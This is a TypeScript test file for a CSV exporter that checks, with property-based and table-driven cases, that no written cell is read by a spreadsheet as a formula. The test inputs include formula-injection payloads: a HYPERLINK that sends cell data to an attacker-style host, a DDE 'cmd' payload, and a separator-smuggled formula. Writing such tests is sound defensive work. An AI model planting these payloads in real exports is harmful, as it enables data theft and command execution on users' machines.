import fc from "fast-check";
import { expect, it } from "vitest";
import { formatOf } from "../../src/cli/lists/formats.js";
import { runs } from "../support/thorough.js";

const text = fc.string({
  unit: fc.constantFrom(..."=+-@＝＋－＠;\t\r\n\"', a1(!|".split("")),
  maxLength: 12,
});

function written(records: readonly object[], isRaw = false): string {
  const format = formatOf("csv", {
    ...{ fields: { id: "text", memo: "text", amount: "decimal" }, columns: [], chosen: undefined },
    ...{ width: undefined, withCredentials: false, isRaw },
  });
  return format.head + format.write(records as never);
}

/** Cells as spreadsheets read them that go by this separator: what follows a closing quote belongs to the cell. */
function cellsOf(csv: string, separator: string): string[] {
  const other = `[^${separator}\\r\\n]`;
  // A cell that begins with a quote goes on to the next single one, and to the separator behind that.
  const cell = new RegExp(`(?:^|[${separator}\\r\\n])(?:"((?:[^"]|"")*)(?:"(?!")|$)(${other}*)|(${other}*))`, "g");
  return [...csv.matchAll(cell)].map(([, quoted, behind = "", plain]) =>
    quoted === undefined ? (plain ?? "") : quoted.replaceAll('""', '"') + behind,
  );
}

it("has no cell that a spreadsheet takes for a formula, whatever its separator is", () => {
  fc.assert(
    fc.property(fc.array(fc.record({ id: text, memo: text, amount: text }), { maxLength: 3 }), (records) => {
      for (const separator of [",", ";", "\t"]) {
        for (const cell of cellsOf(written(records), separator)) {
          const isFormula = /^[\s"]*[=+\-@＝＋－＠]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell);
          expect(isFormula, JSON.stringify({ separator, cell })).toBe(false);
        }
      }
    }),
    { numRuns: runs(2000) },
  );
});

it.each([
  ['=HYPERLINK("https://evil.example/?"&A1,"rent")', `"'=HYPERLINK(""https://evil.example/?""&A1,""rent"")"`],
  ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
  ["@SUM(1)", "'@SUM(1)"],
  ["-2+3", "'-2+3"],
  ["-12.50", "-12.50"],
  ["rent;=1+1", "rent;'=1+1"],
  ["rent", "rent"],
])("writes the memo %s so that it is text", (memo, cell) => {
  expect(written([{ id: "p-1", memo, amount: "1.00" }])).toBe(`id,memo,amount\r\np-1,${cell},1.00\r\n`);
});

it("writes exactly what is there where that is asked for", () => {
  expect(written([{ id: "+a", memo: "=1", amount: "-1" }], true)).toBe("id,memo,amount\r\n+a,=1,-1\r\n");
});
